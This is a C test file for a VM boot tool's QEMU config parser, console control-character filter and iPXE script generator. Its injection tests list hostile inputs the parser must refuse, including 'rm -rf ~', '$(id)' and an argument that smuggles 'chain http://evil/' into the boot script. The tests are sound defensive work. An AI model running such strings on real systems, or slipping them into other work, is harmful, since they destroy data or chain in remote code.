/* The pure parts of `cloister boot`: the machine's QEMU settings split
 * into words without a shell, the console's control characters made
 * visible, and the iPXE script. */
#include <errno.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>

#include "../../builder/image/boot.h"
#include "../../builder/image/console.h"
#include "../../builder/image/qemu_config.h"
#include "test.h"

static const struct qemu_var vars[] = {
	{ "SETTINGS_PATH", "/m/x/qemu" },
	{ "MACHINE_PATH", "/o/machines/x" },
	{ "MACHINE_NAME", "x" },
};

/* The words of text joined by '|', or the error message. */
static char got[4096];
static const char *split(const char *text)
{
	struct words w = { 0 };
	struct cl_err err = { 0 };
	if (qemu_config_parse("qemu-command-line.config", text, strlen(text), vars, 3, &w, &err) < 0) {
		snprintf(got, sizeof got, "ERROR %s", err.msg);
	} else {
		got[0] = '\0';
		for (size_t i = 0; i < w.n; i++)
			snprintf(got + strlen(got), sizeof got - strlen(got), "%s%s", i ? "|" : "", w.v[i]);
		if (w.v && w.v[w.n] != NULL)
			snprintf(got, sizeof got, "ERROR not NULL-terminated");
	}
	words_free(&w);
	return got;
}

static void words_and_lines(void)
{
	CHECK_STR(split("-m 256\n-smp 2\n"), "-m|256|-smp|2");
	CHECK_STR(split("  -m\t256  \n\n   \n"), "-m|256");
	CHECK_STR(split("# a comment\n  # another\n-m 256\n"), "-m|256");
	CHECK_STR(split("-m 256\n-smp 2 # two\n"),
		  "ERROR qemu-command-line.config:2: '#' starts a comment only at the start of a line; quote it ('#') to pass it to QEMU");
	CHECK_STR(split("-name a#b '#c'\n"), "-name|a#b|#c");
	CHECK_STR(split(""), "");
	CHECK_STR(split("-m 256\r\n-nographic\r\n"), "-m|256|-nographic");
	CHECK_STR(split("-m 256"), "-m|256");
}

static void quotes(void)
{
	CHECK_STR(split("-append \"console=ttyS0 quiet\"\n"), "-append|console=ttyS0 quiet");
	CHECK_STR(split("-append 'a \"b\" $c'\n"), "-append|a \"b\" $c");
	CHECK_STR(split("-name \"\"\n"), "-name|");
	CHECK_STR(split("-name ''\n"), "-name|");
	CHECK_STR(split("a\" b \"c\n"), "a b c");
	CHECK_STR(split("\"a\\\"b\\\\c\\$d\\x\"\n"), "a\"b\\c$d\\x");
	CHECK_STR(split("a\\ b\n"), "a b");
	CHECK_STR(split("-append \"open\n-m 1\n"),
		  "ERROR qemu-command-line.config:1: a \" without its closing \" (quotes do not span lines)");
	CHECK_STR(split("\n-append 'open\n"),
		  "ERROR qemu-command-line.config:2: a ' without its closing ' (quotes do not span lines)");
	CHECK_STR(split("-m 256 \\\n"),
		  "ERROR qemu-command-line.config:1: a line may not end in a backslash; a switch may simply continue on the next line");
}

static void variables(void)
{
	CHECK_STR(split("-initrd ${SETTINGS_PATH}/extra.cpio\n"), "-initrd|/m/x/qemu/extra.cpio");
	CHECK_STR(split("-name $MACHINE_NAME -drive file=${MACHINE_PATH}/d.img\n"),
		  "-name|x|-drive|file=/o/machines/x/d.img");
	CHECK_STR(split("-append \"root=${MACHINE_NAME} x\"\n"), "-append|root=x x");
	CHECK_STR(split("-append '${MACHINE_NAME}'\n"), "-append|${MACHINE_NAME}");
	CHECK_STR(split("-m 1\n-name ${HOME}\n"),
		  "ERROR qemu-command-line.config:2: unknown variable 'HOME': only ${SETTINGS_PATH}, ${MACHINE_PATH} and ${MACHINE_NAME} are replaced");
	CHECK_STR(split("-name ${MACHINE_NAME\n"),
		  "ERROR qemu-command-line.config:1: '${' without a closing '}' after a name");
	CHECK_STR(split("-price 5$\n"),
		  "ERROR qemu-command-line.config:1: a '$' that starts no ${NAME}; write \\$ or '$' for a literal dollar");
	CHECK_STR(split("-price 5\\$\n"), "-price|5$");
	/* a value with blanks stays one word: it is not split again */
	struct qemu_var spaced[] = { { "SETTINGS_PATH", "/a b" }, { "MACHINE_PATH", "/o" }, { "MACHINE_NAME", "x" } };
	struct words w = { 0 };
	struct cl_err err = { 0 };
	const char *t = "-initrd ${SETTINGS_PATH}/i\n";
	CHECK(qemu_config_parse("f", t, strlen(t), spaced, 3, &w, &err) == 0);
	CHECK(w.n == 2);
	if (w.n == 2)
		CHECK_STR(w.v[1], "/a b/i");
	words_free(&w);
}

/* What a shell would have done is refused, never done differently. */
static void no_shell(void)
{
	const char *bad[] = { "-m 1; rm -rf ~\n", "-m $(id)\n", "-m `id`\n", "-m 1 | cat\n", "-m 1 && x\n",
			      "-m 1 > f\n", "-drive file=*.img\n", "-m ~/x\n", "-append \"`id`\"\n" };
	for (size_t i = 0; i < sizeof bad / sizeof *bad; i++) {
		const char *r = split(bad[i]);
		if (strncmp(r, "ERROR qemu-command-line.config:1: ", 34) != 0) {
			printf("  '%s' gave '%s'\n", bad[i], r);
			CHECK(0);
		}
	}
	/* quoted, the same characters are QEMU's */
	CHECK_STR(split("-append 'a;b|c>d'\n"), "-append|a;b|c>d");
	CHECK_STR(split("-name a~b\n"), "-name|a~b");
	char nul[] = "-m 1\0-x\n";
	struct words w = { 0 };
	struct cl_err err = { 0 };
	CHECK(qemu_config_parse("f", nul, sizeof nul - 1, vars, 3, &w, &err) == -EINVAL);
	CHECK(strstr(err.msg, "NUL") != NULL);
	CHECK_STR(split("-m \x01\n"), "ERROR qemu-command-line.config:1: a control character (0x01)");
}

/* fuzz_qemu_config found it: the parser ran strlen() past len bytes that
 * no NUL followed (tests/fuzz/corpus/qemu_config/crash-read-past-len). */
static void only_len_bytes(void)
{
	const char text[] = "-m 256\n-smp 2\n";
	struct words w = { 0 };
	struct cl_err err = { 0 };
	CHECK(qemu_config_parse("f", text, 7, vars, 3, &w, &err) == 0);
	CHECK(w.n == 2 && !strcmp(w.v[0], "-m") && !strcmp(w.v[1], "256") && w.v[2] == NULL);
	words_free(&w);
}

static void missing_file_adds_nothing(void)
{
	struct words w = { 0 };
	struct cl_err err = { 0 };
	CHECK(qemu_config_read("/nonexistent/qemu-command-line.config", vars, 3, &w, &err) == 0);
	CHECK(w.n == 0);
}

static const char *vis(const char *in, size_t n)
{
	struct visible v = { 0 };
	char out[1024];
	size_t o = visible_chunk(&v, (const unsigned char *)in, n, out);
	o += visible_end(&v, out + o);
	snprintf(got, sizeof got, "%.*s", (int)o, out);
	return got;
}

static void control_characters_made_visible(void)
{
	CHECK_STR(vis("login: ", 7), "login: ");
	CHECK_STR(vis("a\r\nb\n", 5), "a\nb\n");
	CHECK_STR(vis("\033[2J\033]0;title\007", 14), "^[[2J^[]0;title^G");
	CHECK_STR(vis("a\rb", 3), "a^Mb");
	CHECK_STR(vis("end\r", 4), "end^M");
	CHECK_STR(vis("\t\x7f\x9b\xff", 4), "\t^?\\x9b\\xff");
	CHECK_STR(vis("\0x", 2), "^@x");
	/* CR LF split between two reads is still one newline */
	struct visible v = { 0 };
	char out[64];
	size_t o = visible_chunk(&v, (const unsigned char *)"a\r", 2, out);
	o += visible_chunk(&v, (const unsigned char *)"\nb", 2, out + o);
	o += visible_end(&v, out + o);
	CHECK(o == 3 && !memcmp(out, "a\nb", 3));
	/* nothing the terminal would act on survives */
	unsigned char all[256];
	char big[4 * 256 + 2];
	for (int i = 0; i < 256; i++)
		all[i] = (unsigned char)i;
	struct visible w = { 0 };
	size_t n = visible_chunk(&w, all, 256, big);
	n += visible_end(&w, big + n);
	for (size_t i = 0; i < n; i++)
		CHECK(big[i] == '\n' || big[i] == '\t' || (big[i] >= 0x20 && big[i] < 0x7f));
}

static void ipxe_script(void)
{
	char s[512];
	struct cl_err err = { 0 };
	CHECK(pxe_script("x.vmlinuz", NULL, false, s, sizeof s, &err) == 0);
	CHECK_STR(s, "#!ipxe\nkernel x.vmlinuz\nboot\n");
	CHECK(pxe_script("x.vmlinuz", "console=ttyS0 init=/bin/sh", true, s, sizeof s, &err) == 0);
	CHECK_STR(s, "#!ipxe\nkernel x.vmlinuz console=ttyS0 init=/bin/sh\ninitrd initrd\nboot\n");
	/* a newline would be a second iPXE command; ${...} iPXE's expansion */
	CHECK(pxe_script("x.vmlinuz", "quiet\nchain http://evil/", false, s, sizeof s, &err) == -EINVAL);
	CHECK(pxe_script("x.vmlinuz", "a=${net0/ip}", false, s, sizeof s, &err) == -EINVAL);
	CHECK(pxe_script("x.vmlinuz", "a=\"b c\"", false, s, sizeof s, &err) == -EINVAL);
	CHECK(pxe_script("x.vmlinuz", "quiet", false, s, 20, &err) == -ENAMETOOLONG);
}

int main(void)
{
	RUN(words_and_lines);
	RUN(quotes);
	RUN(variables);
	RUN(no_shell);
	RUN(only_len_bytes);
	RUN(missing_file_adds_nothing);
	RUN(control_characters_made_visible);
	RUN(ipxe_script);
	return test_failures ? 1 : 0;
}
